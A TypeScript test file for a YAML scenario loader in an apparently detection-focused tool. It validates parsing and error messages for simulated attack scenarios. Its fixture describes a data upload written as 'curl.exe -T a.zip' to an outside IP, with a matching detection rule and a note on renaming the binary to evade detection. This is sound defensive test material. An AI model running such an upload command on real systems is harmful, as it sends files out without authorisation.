import { mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { afterAll, describe, expect, test } from 'vitest'
import { positionAt } from '../source/text.ts'
import { loadScenarioFile, loadScenarios } from './scenario-file.ts'

const root = mkdtempSync(path.join(tmpdir(), 'siemless-test-'))
afterAll(() => rmSync(root, { recursive: true, force: true }))

const GOOD = `id: upload
title: An upload
kind: attack
description: A file leaves.
techniques: [T1048]
start: 2026-03-02T09:14:00Z
hosts: [{ name: WS-1, domain: corp.example, os: windows, address: 10.0.0.1 }]
users: [{ name: ann, domain: CORP }]
processes:
  - id: shell
    image: C:\\Windows\\System32\\cmd.exe
    command_line: cmd.exe
    running: true
    children:
      - id: curl
        at: 1m30s
        image: C:\\Windows\\System32\\curl.exe
        command_line: curl.exe -T a.zip http://203.0.113.1/
        connections: [{ at: 250ms, to: 203.0.113.1, port: 80, bytes_out: 100 }]
signals:
  - { sensor: sysmon, event: 1, fields: { Image: '*\\curl.exe' } }
expect:
  qradar: { not_visible: no such log source }
  sumo: tuned
evasion:
  actors: [curl]
  not_visible: [{ family: renamed, platforms: [qradar], reason: no original name }]
`

function write(name: string, text: string): string {
  const file = path.join(root, name)
  mkdirSync(path.dirname(file), { recursive: true })
  writeFileSync(file, text)
  return file
}

async function complaints(text: string): Promise<readonly string[]> {
  const file = write('one.yaml', text)
  const { diagnostics } = await loadScenarioFile(file)
  return diagnostics.map((each) => {
    const { line, column } = positionAt(text, each.span.start)
    return `${line}:${column} ${each.message.replace(/^`[^`]*`: /, '')}`
  })
}

test('a scenario is read with its durations, defaults and expectations', async () => {
  const { scenarios, diagnostics } = await loadScenarioFile(write('good.yaml', GOOD))
  expect(diagnostics).toEqual([])
  const scenario = scenarios[0]?.scenario
  expect(scenario?.start).toBe(Date.UTC(2026, 2, 2, 9, 14))
  expect(scenario?.expect).toEqual({
    qradar: { kind: 'not-visible', reason: 'no such log source' },
    sumo: { kind: 'tuned' },
  })
  const curl = scenario?.processes[0]?.children[0]
  expect(curl).toMatchObject({ at: 90_000, integrity: 'medium', isRunning: false })
  expect(curl?.connections[0]).toMatchObject({ at: 250, transport: 'tcp', direction: 'outbound', bytesOut: 100 })
  expect(scenario?.signals[0]).toMatchObject({ event: '1' })
})

describe('mistakes are told at their place', () => {
  test.each([
    ['kind: attack', 'kind: atack', '3:7 `kind` must be one of attack, benign'],
    ['at: 1m30s', 'at: 90 seconds', '16:13 `at` must be a duration as `250ms`, `3s` or `1m30s`, of at most 3660d'],
    ['port: 80', 'port: 80000', '19:59 `port` must be a port from 1 to 65535'],
    ['actors: [curl]', 'actors: [crul]', '26:11 there is no process `crul`'],
    ['address: 10.0.0.1', 'address: 10.0.0.256', '7:67 `address` must be an IPv4 address'],
    ['  qradar:', '  qrader:', '23:3 there is no member `qrader`'],
    ['title: An upload\n', '', '1:1 `title` is missing: a text is expected'],
    ['- id: curl', '- id: shell', '15:13 the id `shell` is there twice'],
    [
      'start: 2026-03-02T09:14:00Z',
      'start: yesterday',
      '6:8 `start` must be a time as `2026-03-02T09:14:00Z`, from 1970 to 2199',
    ],
    ['start: 2026', 'start: 1601', '6:8 `start` must be a time as `2026-03-02T09:14:00Z`, from 1970 to 2199'],
    ['at: 1m30s', 'at: 999999999d', '16:13 `at` must be a duration as `250ms`, `3s` or `1m30s`, of at most 3660d'],
    ['id: upload', 'title: twice\nid: upload', '3:1 `title` is there twice'],
    [
      'techniques: [T1048]',
      'techniques: &t [T1048]\nreferences: *t',
      '6:13 `*t`: write the value out; references are not followed',
    ],
    ['title: An upload', 'title: "An \\0 upload"', '2:8 a text may not hold the character NUL'],
    ['name: ann,', 'name: ann, uid: someone,', '8:27 `uid` must be a SID or the number of a user'],
    ['name: WS-1', 'name: "WS 1\\n<134>"', '7:17 a host has letters, digits, `-` and `_` in its name, at most 63'],
    ['at: 1m30s', 'at: 1m30s\n        exit_code: .nan', '17:20 `exit_code` must be a whole number of 32 bits'],
  ])('%s', async (from, to, expected) => {
    expect(await complaints(GOOD.replace(from, to))).toContain(expected)
  })
})

test('a file that is no scenario is told so shortly, and soon', async () => {
  const keys = await complaints(Array.from({ length: 60_000 }, (_, index) => `k${index}: ${index}`).join('\n'))
  expect(keys.length).toBe(50)
  const deep = await complaints(`title: ${'['.repeat(100_000)}`)
  expect(deep[0]).toMatch(/^1:\d+ values are nested too deep here$/)
  expect(await complaints(`${GOOD}---\nid: other\n`)).toEqual([
    expect.stringMatching(/^28:1 one document is expected, and a second one begins here$/),
  ])
}, 10_000)

test('broken YAML, a link out of the package and a taken id leave the rest of a package', async () => {
  write('package/scenarios/a.yaml', GOOD)
  write('package/scenarios/b.yaml', 'id: [')
  write('package/scenarios/c.yaml', GOOD)
  symlinkSync(write('outside.yaml', GOOD), path.join(root, 'package/scenarios/d.yaml'))
  const { scenarios, diagnostics } = await loadScenarios(path.join(root, 'package'))
  expect(scenarios.map((each) => path.basename(each.file))).toEqual(['a.yaml'])
  expect(new Set(diagnostics.map((each) => path.basename(each.file)))).toEqual(new Set(['b.yaml', 'c.yaml', 'd.yaml']))
})

test('the shipped scenarios are without mistakes', async () => {
  for (const name of readdirSync('content')) {
    const { scenarios, diagnostics } = await loadScenarios(path.join('content', name))
    expect(diagnostics).toEqual([])
    expect(scenarios.length).toBeGreaterThanOrEqual(0)
  }
})
